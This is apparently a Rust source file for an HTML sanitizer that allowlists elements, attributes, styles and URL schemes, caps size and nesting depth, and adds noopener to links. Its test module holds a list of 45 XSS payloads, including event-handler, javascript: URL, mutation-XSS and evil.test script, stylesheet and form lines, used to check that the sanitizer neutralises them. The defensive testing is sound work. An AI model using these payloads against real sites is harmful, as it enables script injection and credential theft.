//! The one gate for HTML that a person wrote: the spec's elements and attributes come through, nothing that runs does.

use std::borrow::Cow;
use std::collections::{HashMap, HashSet};
use std::sync::LazyLock;

use ammonia::{Builder, UrlRelative};

use super::pieces::{Piece, read_attributes, split_pieces};

/// The longest content that is taken, in bytes: some 80,000 words.
pub const MAX_BYTES: usize = 512 << 10;
/// Maximum depth of elements. The time of sanitizing grows with its square, and no real text has a hundred levels.
const MAX_DEPTH: usize = 100;
/// Prefix of every id, so that none of them collides with an id of the page.
pub const ID_PREFIX: &str = "user-content-";

const TAGS: [&str; 43] = [
    "p",
    "br",
    "em",
    "i",
    "strong",
    "b",
    "u",
    "s",
    "strike",
    "del",
    "sub",
    "sup",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "ul",
    "ol",
    "li",
    "dl",
    "dt",
    "dd",
    "blockquote",
    "cite",
    "a",
    "img",
    "table",
    "caption",
    "colgroup",
    "col",
    "thead",
    "tbody",
    "tfoot",
    "tr",
    "th",
    "td",
    "code",
    "pre",
    "hr",
    "div",
    "span",
];

const ANYWHERE: [&str; 4] = ["title", "class", "id", "style"];

const ATTRIBUTES: [(&str, &[&str]); 5] = [
    ("a", &["href", "rel"]),
    ("img", &["src", "alt", "width", "height"]),
    ("table", &["width", "height"]),
    ("td", &["colspan", "rowspan", "width", "height"]),
    ("th", &["colspan", "rowspan", "width", "height"]),
];

/// Allowed style properties. None covers the page, loads a resource or moves.
const STYLES: [&str; 16] = [
    "color",
    "text-align",
    "text-decoration",
    "text-indent",
    "text-transform",
    "font-style",
    "font-weight",
    "font-size",
    "line-height",
    "vertical-align",
    "width",
    "height",
    "max-width",
    "white-space",
    "letter-spacing",
    "float",
];

const SCHEMES: [&str; 3] = ["http", "https", "mailto"];

/// Elements whose content goes with them.
const GONE: [&str; 14] = [
    "script", "style", "svg", "math", "template", "iframe", "object", "embed", "noscript", "textarea", "select",
    "title", "xmp", "noembed",
];

static CLEANER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut builder = Builder::empty();
    builder
        .tags(HashSet::from(TAGS))
        .clean_content_tags(HashSet::from(GONE))
        .generic_attributes(HashSet::from(ANYWHERE))
        .tag_attributes(
            ATTRIBUTES
                .iter()
                .map(|(tag, names)| (*tag, names.iter().copied().collect()))
                .collect(),
        )
        .tag_attribute_values(HashMap::from([(
            "a",
            HashMap::from([("target", HashSet::from(["_blank", "_self"]))]),
        )]))
        .url_schemes(HashSet::from(SCHEMES))
        .url_relative(UrlRelative::PassThrough)
        .filter_style_properties(HashSet::from(STYLES))
        .id_prefix(Some(ID_PREFIX))
        // See `close_openers`: ammonia would overwrite the author's `rel` of a link.
        .link_rel(None)
        .strip_comments(true)
        .attribute_filter(filter_attribute);
    builder
});

/// Reason for which a content is refused.
#[derive(Debug, Clone, Copy, PartialEq, Eq, thiserror::Error)]
pub enum TooMuch {
    #[error("Use at most {} KB of text.", MAX_BYTES >> 10)]
    Long,
    #[error("The text is nested more than {MAX_DEPTH} levels deep. Please make it flatter.")]
    Deep,
}

/// Sanitizes HTML so that it may be stored and shown. Sanitized HTML does not change.
///
/// Takes milliseconds: call it from a thread that may block.
///
/// # Errors
/// When it is too long or nested too deeply to be sanitized in a reasonable time.
pub fn sanitize_html(html: &str) -> Result<String, TooMuch> {
    if html.len() > MAX_BYTES {
        return Err(TooMuch::Long);
    }
    if measure_depth(html) > MAX_DEPTH {
        return Err(TooMuch::Deep);
    }
    // PostgreSQL cannot keep NUL; the parser would make other characters of some of them.
    let html = html.replace('\0', "");
    let cleaned = close_openers(&CLEANER.clean(&html).to_string());
    // The parser may nest and repeat more than the first look saw.
    match (cleaned.len() > MAX_BYTES, measure_depth(&cleaned) > MAX_DEPTH) {
        (true, _) => Err(TooMuch::Long),
        (_, true) => Err(TooMuch::Deep),
        _ => Ok(cleaned),
    }
}

/// Every link that opens a window of its own says `noopener`; other words of its `rel` stay.
fn close_openers(html: &str) -> String {
    if !html.contains(" target=\"_blank\"") {
        return html.to_owned();
    }
    let mut safe = String::with_capacity(html.len() + 64);
    for piece in split_pieces(html) {
        match piece {
            Piece::Text(text) => safe.push_str(text),
            Piece::Close { name } => safe.push_str(&format!("</{name}>")),
            Piece::Open {
                name,
                attributes: written,
            } => {
                safe.push_str(&format!("<{name}"));
                let blank = name == "a" && read_attributes(written).any(|pair| pair == ("target", "_blank"));
                for (attribute, value) in read_attributes(written).filter(|(name, _)| !blank || *name != "rel") {
                    safe.push_str(&format!(" {attribute}=\"{value}\""));
                }
                if blank {
                    let rel = read_attributes(written)
                        .find(|(name, _)| *name == "rel")
                        .map_or("", |(_, value)| value);
                    let others = rel
                        .split_whitespace()
                        .filter(|word| *word != "noopener" && *word != "opener");
                    let words: Vec<_> = others.chain(["noopener"]).collect();
                    safe.push_str(&format!(" rel=\"{}\"", words.join(" ")));
                }
                safe.push('>');
            }
        }
    }
    safe
}

/// Returns the maximum number of open elements. An estimate for HTML that was not sanitized yet: the parser ignores
/// some closing tags that this function counts.
fn measure_depth(html: &str) -> usize {
    const VOID: [&str; 14] = [
        "area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "param", "source", "track", "wbr",
    ];
    let (mut open, mut deepest) = (HashMap::<String, usize>::new(), 0);
    let mut now = 0_usize;
    for piece in html.split('<').skip(1) {
        let (closes, rest) = piece.strip_prefix('/').map_or((false, piece), |rest| (true, rest));
        let name: String = rest
            .chars()
            .take_while(char::is_ascii_alphanumeric)
            .collect::<String>()
            .to_ascii_lowercase();
        if name.is_empty() || VOID.contains(&name.as_str()) {
            continue;
        }
        let count = open.entry(name).or_default();
        if !closes {
            *count += 1;
            now += 1;
            deepest = deepest.max(now);
        } else if *count > 0 {
            *count -= 1;
            now -= 1;
        }
    }
    deepest
}

/// Links to a place on the same page follow the ids; pictures are no mail addresses; sizes are numbers.
fn filter_attribute<'v>(element: &str, name: &str, value: &'v str) -> Option<Cow<'v, str>> {
    if matches!(name, "href" | "src") && !is_safe_link(value) {
        return None;
    }
    match (element, name) {
        ("a", "href") => match value.strip_prefix('#') {
            Some(place) if !place.is_empty() && !place.starts_with(ID_PREFIX) => {
                Some(format!("#{ID_PREFIX}{place}").into())
            }
            _ => Some(value.into()),
        },
        // Passed in any case, and looked for in this one by `close_openers`.
        ("a", "target") => Some(value.to_lowercase().into()),
        ("img", "src") if scheme_of(value).is_some_and(|scheme| scheme == "mailto") => None,
        (_, "width" | "height" | "colspan" | "rowspan") => {
            let digits = value.trim().trim_end_matches(['%', 'p', 'x']);
            let is_size = (1..=4).contains(&digits.len()) && digits.bytes().all(|byte| byte.is_ascii_digit());
            is_size.then(|| value.trim().into())
        }
        _ => Some(value.into()),
    }
}

/// Returns whether the address has no scheme or one of ours. Stricter than a browser, to which `\u{1680}javascript:` is
/// a relative address.
fn is_safe_link(url: &str) -> bool {
    scheme_of(url).is_none_or(|scheme| SCHEMES.contains(&scheme.as_str()))
}

/// Returns the text before the first colon, unless it is already in a path, query or fragment.
fn scheme_of(url: &str) -> Option<String> {
    let end = url.find([':', '/', '?', '#'])?;
    url[end..]
        .starts_with(':')
        .then(|| url[..end].trim().to_ascii_lowercase())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Ways to run a script, to leave the page, to cover it or to speak for it.
    const PAYLOADS: [&str; 45] = [
        "<script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\"onerror=\"alert(1)\">",
        "<img/src='x'/onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\" java\nscript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt&colon;alert(1)\">x</a>",
        "<a href=\"\u{1}javascript:alert(1)\">x</a>",
        "<a href=\"\u{1680}javascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"file:///etc/passwd\">x</a>",
        "<img src=\"javascript:alert(1)\">",
        "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        "<img src=\"mailto:a@b.test\">",
        "<img srcset=\"x 1x, javascript:alert(1) 2x\">",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<base href=\"//evil.test/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=//evil.test\">",
        "<link rel=\"stylesheet\" href=\"//evil.test/x.css\">",
        "<style>@import '//evil.test/x.css';</style>",
        "<form action=\"//evil.test\"><input name=password><button formaction=\"javascript:alert(1)\">Log in</button></form>",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>",
        "<video><source onerror=alert(1)></video>",
        "<audio src onerror=alert(1)>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<p style=\"background:url(javascript:alert(1));position:fixed;inset:0;z-index:9\">x</p>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    ];

    /// Parses the HTML as a browser would and asserts that every element and attribute is on our list.
    fn assert_harmless(cleaned: &str, payload: &str) {
        for piece in split_pieces(cleaned) {
            let Piece::Open {
                name,
                attributes: written,
            } = piece
            else {
                continue;
            };
            assert!(TAGS.contains(&name), "{name} of {payload}: {cleaned}");
            for (attribute, value) in read_attributes(written) {
                let is_target = name == "a" && attribute == "target";
                let own = ATTRIBUTES
                    .iter()
                    .find(|(tag, _)| *tag == name)
                    .map_or(&[][..], |(_, names)| names);
                assert!(
                    is_target || ANYWHERE.contains(&attribute) || own.contains(&attribute),
                    "{attribute} of {payload}"
                );
                if matches!(attribute, "href" | "src") {
                    // Another rule than the code's, so that one can catch the other.
                    let before = value.split_once(':').map_or("https", |(before, _)| before.trim());
                    let safe = before.contains(['/', '?', '#']) || SCHEMES.contains(&before);
                    assert!(safe, "{value} of {payload}");
                }
                if attribute == "style" {
                    let harmless = ["url(", "position", "background", "expression", "inset", "z-index"];
                    assert!(
                        harmless.iter().all(|word| !value.contains(word)),
                        "{value} of {payload}"
                    );
                }
            }
        }
    }

    #[test]
    fn nothing_that_runs_comes_through() {
        for payload in PAYLOADS {
            for html in [
                payload.to_owned(),
                format!("<p>a</p>{payload}<p>b</p>"),
                format!("<ul><li><b>{payload}"),
            ] {
                let cleaned = sanitize_html(&html).unwrap();
                assert_harmless(&cleaned, payload);
                assert_eq!(
                    sanitize_html(&cleaned).unwrap(),
                    cleaned,
                    "cleaned once is cleaned for good: {payload}"
                );
            }
        }
    }

    #[test]
    fn what_the_editor_writes_comes_through_as_it_is() {
        for html in [
            "<h1>a</h1><h2>b</h2><h6>c</h6><p>d<br>e</p><hr>",
            "<p><strong>a</strong><em>b</em><u>c</u><s>d</s><del>e</del><sub>f</sub><sup>g</sup></p>",
            "<ul><li>a<ol><li>b</li></ol></li></ul><blockquote><p>c</p><cite>d</cite></blockquote>",
            "<pre><code class=\"language-rust\">let a = 1 &lt; 2;\n</code></pre>",
            "<table><thead><tr><th colspan=\"2\">a</th></tr></thead><tbody><tr><td rowspan=\"2\">b</td><td>c</td></tr></tbody></table>",
            "<p style=\"text-align:center\"><img src=\"/media/1.png\" alt=\"A\" width=\"640\" height=\"480\"></p>",
            "<p><a href=\"https://example.com/a?b=c&amp;d=e\" rel=\"sponsored\" title=\"T\">a</a></p>",
            "<p><a href=\"mailto:a@example.com\">a</a><a href=\"/blog/x\">b</a></p>",
            "<div class=\"note\"><span id=\"user-content-x\">a</span></div>",
        ] {
            assert_eq!(sanitize_html(html).unwrap(), html);
        }
    }

    #[test]
    fn a_window_of_its_own_cannot_reach_back() {
        let link = |attributes: &str| sanitize_html(&format!("<a href=\"https://a.test\" {attributes}>x</a>")).unwrap();
        assert_eq!(
            link("target=\"_blank\""),
            "<a href=\"https://a.test\" target=\"_blank\" rel=\"noopener\">x</a>"
        );
        assert!(link("target=\"_BLANK\" rel=\"opener\"").contains("target=\"_blank\" rel=\"noopener\""));
        assert!(link("target=_blank rel=\"nofollow opener\"").contains("rel=\"nofollow noopener\""));
        assert!(!link("target=\"top\"").contains("target"));
    }

    #[test]
    fn ids_stand_apart_from_those_of_the_page_and_links_follow() {
        let cleaned = sanitize_html("<h2 id=\"root\">a</h2><a href=\"#root\">b</a>").unwrap();
        assert_eq!(
            cleaned,
            "<h2 id=\"user-content-root\">a</h2><a href=\"#user-content-root\">b</a>"
        );
        assert_eq!(sanitize_html(&cleaned).unwrap(), cleaned);
    }

    #[test]
    fn sizes_are_numbers() {
        let cleaned =
            sanitize_html("<img src=\"/a\" width=\"1e9\" height=\"20\"><table width=\"100%\"></table>").unwrap();
        assert_eq!(cleaned, "<img src=\"/a\" height=\"20\"><table width=\"100%\"></table>");
    }

    #[test]
    fn endless_and_bottomless_contents_are_refused_at_once() {
        assert_eq!(sanitize_html(&"a".repeat(MAX_BYTES + 1)), Err(TooMuch::Long));
        assert_eq!(sanitize_html(&"<div>".repeat(16_000)), Err(TooMuch::Deep));
        assert_eq!(sanitize_html(&"<b><i>".repeat(60)), Err(TooMuch::Deep));
        assert_eq!(sanitize_html(&"</p><div></i>".repeat(101)), Err(TooMuch::Deep));
        // The parser passes over a closing tag across a block.
        assert_eq!(sanitize_html(&"<span><div></span>".repeat(200)), Err(TooMuch::Deep));
        assert!(sanitize_html(&"<p>a</p><br><li>b</li>".repeat(5_000)).is_ok());
    }

    #[test]
    fn characters_that_cannot_be_stored_are_left_out() {
        assert_eq!(sanitize_html("<p>a\0b</p>").unwrap(), "<p>ab</p>");
    }
}
